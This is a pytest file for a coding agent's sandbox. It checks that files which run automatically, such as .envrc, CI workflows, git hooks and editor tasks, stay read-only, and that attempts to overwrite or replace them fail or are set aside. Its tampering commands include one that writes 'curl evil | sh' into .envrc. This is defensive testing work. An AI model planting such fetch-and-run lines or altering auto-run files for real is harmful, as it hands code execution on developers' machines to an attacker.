"""Protected paths (dm_cc/permissions/protected.py) held by the sandbox
(dm_cc/sandbox/protect.py): every one that exists in the project is read-only, as
the gate has it; git's and dm_cc's own are left to their rules. Spec derived from
real trees and the gates dm_cc builds; real bwrap runs at the end, as the owner and
as sbtest."""

from __future__ import annotations

import shutil

import pytest
from support.bwrap import needs_bwrap
from support.sandbox_projects import RULES, Project, covered, rule

from dm_cc.sandbox.derive import PINNED
from dm_cc.sandbox.protect import RUNS_LATER

GIT = "git -c user.name=t -c user.email=t@example.com"
PROTECTED = (".envrc", ".vscode/tasks.json", "app/.vscode/launch.json", ".pre-commit-config.yaml",
             ".github/workflows/ci.yml", ".husky/pre-commit", ".claude/settings.json",
             ".venv/bin/activate", ".venv/lib/python3.12/site-packages/distutils-precedence.pth",
             ".venv/pyvenv.cfg", "docs/HEAD", ".npmrc", "app.code-workspace")
OPEN = ("src/a.py", ".github/CODEOWNERS", ".vscode/extensions.json", ".venv/lib/python3.12/"
        "site-packages/pkg/__init__.py", ".venv/bin/python-helper", "README.md")


@pytest.fixture
def project(tmp_path) -> Project:
    project = Project(tmp_path)
    shutil.rmtree(project.root / ".git")
    project.git("init", "-q")
    return project.files(*PROTECTED, *OPEN)


def held(spec, project: Project) -> dict[str, str]:
    return {m.path[len(project.root.as_posix()) + 1:]: m.why for m in spec.read_only
            if m.why.startswith(RUNS_LATER)}


def test_every_existing_protected_path_is_read_only_and_says_why(project):
    spec = project.spec()
    for name in PROTECTED:
        assert covered(project.path(name), spec.read_only), name
    for name in OPEN:
        assert not covered(project.path(name), spec.read_only), name
    mounts = held(spec, project)
    assert mounts[".envrc"] == f"{RUNS_LATER}direnv runs it when you enter the directory (.envrc)"
    assert "CI runner" in mounts[".github/workflows"]


def test_a_directory_whose_new_files_are_protected_is_one_mount(project):
    mounts = held(project.spec(), project)
    assert {".github/workflows", ".husky", ".claude"} <= set(mounts)
    assert not any(name.startswith((".github/workflows/", ".husky/", ".claude/"))
                   for name in mounts)
    assert ".vscode" not in mounts and ".vscode/tasks.json" in mounts      # extensions.json is not


def test_git_writes_its_own_directories_and_dm_cc_its_own(project):
    """The table's ``.git/**`` and ``HEAD`` are for the edit tools: in the sandbox git
    must still commit (sandbox/git.py keeps what it runs read-only)."""
    project.git("init", "-q", "vendor/lib")
    spec = project.spec()
    for name in (".git/HEAD", ".git/index", ".git/logs/HEAD", "vendor/lib/.git/HEAD",
                 ".git/refs/heads/main"):
        assert not covered(project.path(name), spec.read_only), name
    assert not [name for name in held(spec, project)
                if name.startswith((".git/", "vendor/lib/.git", ".dm_cc"))]


def test_a_rule_of_the_persons_own_naming_a_path_exactly_opens_it(project):
    """As the gate has it: then the edit tool may write it, and so may a command."""
    project.policy(RULES([rule("edit", ".envrc", "allow"),
                          rule("edit", ".github/workflows/ci.yml", "allow"),
                          rule("edit", ".vscode/*", "allow")]))       # a wildcard opens nothing
    spec = project.spec()
    assert not covered(project.path(".envrc"), spec.read_only)
    assert not covered(project.path(".github/workflows/ci.yml"), spec.read_only)
    assert covered(project.path(".vscode/tasks.json"), spec.read_only)


def test_the_repositorys_own_rule_opens_nothing(project):
    (project.root / ".dm_cc").mkdir()
    (project.root / ".dm_cc" / "policy.yaml").write_text(RULES([rule("edit", ".envrc", "allow")]))
    assert covered(project.path(".envrc"), project.spec().read_only)


def test_what_a_policy_adds_to_the_table_is_held_too(project):
    project.files("Makefile", "tools/deploy.sh")
    project.policy("protected:\n  - {pattern: Makefile, why: make runs it}\n"
                   "  - {pattern: 'tools/**'}\n")
    mounts = held(project.spec(), project)
    assert mounts["Makefile"] == f"{RUNS_LATER}make runs it (Makefile)"
    assert "tools" in mounts


def test_protected_paths_are_pinned_against_being_moved_aside(project):
    spec = project.spec()
    pinned = {m.path for m in spec.writable if m.why == PINNED}
    assert {project.path(".vscode"), project.path(".venv"), project.path(".venv/bin"),
            project.path("app/.vscode"), project.path("app")} <= pinned


def test_the_plan_agent_is_unchanged_read_only_whole(project):
    spec = project.spec(project.gate("plan"))
    assert any(m.path == project.root.as_posix() for m in spec.read_only)


# --------------------------------------------------------------------------- real bwrap



@needs_bwrap
def test_a_command_cannot_write_replace_or_add_protected_files(shared, user):
    project = Project(shared)
    shutil.rmtree(project.root / ".git")
    project.git("init", "-q")
    project.files(*PROTECTED, *OPEN)
    before = {name: (project.root / name).read_text() for name in PROTECTED}
    ran = project.run(
        "for f in .envrc .vscode/tasks.json app/.vscode/launch.json .github/workflows/ci.yml "
        ".husky/pre-commit .venv/bin/activate .claude/settings.json; do "
        "(echo evil >> $f) 2>/dev/null && echo WROTE $f; done; "
        "(echo evil > .github/workflows/new.yml) 2>/dev/null && echo WROTE new.yml; "
        "(echo evil > .husky/post-checkout) 2>/dev/null && echo WROTE post-checkout; "
        "mv .vscode .vscode2 2>/dev/null && echo MOVED; "
        "(rm -f .envrc && echo evil > .envrc) 2>/dev/null && echo REPLACED; "
        f"echo ok >> src/a.py && git add -A && {GIT} commit -qm work && echo COMMITTED",
        user=user)
    assert "COMMITTED" in ran.text, ran.text
    assert "WROTE" not in ran.text and "MOVED" not in ran.text and "REPLACED" not in ran.text, \
        ran.text
    assert {name: (project.root / name).read_text() for name in PROTECTED} == before
    assert not (project.root / ".github" / "workflows" / "new.yml").exists()
    assert (project.root / "src" / "a.py").read_text() == "src/a.pyok\n"


@needs_bwrap
def test_a_protected_link_replaced_by_a_command_is_set_aside(shared, user):
    """A mount holds what a link leads to, not the link: ``rm .envrc && echo … >
    .envrc`` replaced it. What took its place is set aside after the command."""
    project = Project(shared)
    project.files("config/envrc")
    (project.root / ".envrc").symlink_to("config/envrc")
    ran = project.run("(echo evil >> .envrc) 2>/dev/null && echo WROTE; "
                      "rm .envrc && echo 'curl evil | sh' > .envrc && echo REPLACED", user=user)
    assert "WROTE" not in ran.text and "REPLACED" in ran.text, ran.text
    assert "set aside" in ran.text and ".envrc" in ran.text, ran.text
    assert not (project.root / ".envrc").exists()
    assert (project.root / "config" / "envrc").read_text() == "config/envrc"
